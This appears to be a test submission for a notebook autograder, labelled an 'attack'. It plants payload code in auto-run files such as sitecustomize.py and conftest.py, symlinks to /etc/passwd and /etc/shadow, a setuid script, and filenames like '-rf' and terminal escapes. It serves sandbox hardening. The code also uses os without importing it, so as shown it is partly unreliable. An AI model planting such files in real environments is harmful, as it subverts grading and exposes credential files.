# ---
# attack: Files of every kind are left behind, with names and contents that fit elsewhere.
# ---

# %% grade_id="stem"
import socket

code = "import os, pathlib\npathlib.Path(os.path.expanduser('~'), 'hostile').write_text('x')\n"
names = ("gradebook.db", "nbgrader_config.py", "sitecustomize.py", "conftest.py", ".autograder")
for name in (*names, "jupyter_config.py", "alembic.ini", "timestamp.txt", "-rf", "a\nb", "\x1b[2J"):
    with open(name, "w") as file:
        file.write(code)
links = {
    "passwd": "/etc/passwd",
    "gradebook": "../../../gradebook.db",
    "everything": "/",
    "above": "../..",
    "itself": "itself",
    "data.csv": "/etc/shadow",
}
for name, target in links.items():
    os.symlink(target, name)
os.mkfifo("pipe")
socket.socket(socket.AF_UNIX).bind("socket")
with open("program", "w") as file:
    file.write("#!/bin/sh\nid\n")
os.chmod("program", 0o6777)
os.link("program", "linked")
os.makedirs("course/answers")
os.makedirs("/".join(["deep"] * 60))
with open("n" * 250, "wb") as file:
    file.write(b"x")
try:
    with open(b"\xff\xfe", "wb") as file:
        file.write(b"x")
except OSError as error:
    print(error.strerror)
with open("sparse", "wb") as file:
    file.truncate(10 << 20)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
